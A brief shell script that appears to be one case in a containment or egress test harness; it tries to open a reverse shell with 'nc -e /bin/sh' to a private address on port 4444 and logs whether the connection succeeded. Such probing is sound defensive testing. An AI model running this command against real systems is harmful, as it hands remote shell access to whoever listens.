#!/bin/sh
. /cases/attempt.sh
( timeout 6 nc -w 3 10.66.7.7 4444 -e /bin/sh ) 2>&1
attempted nc-e $? && effect "shell connected out"
finish
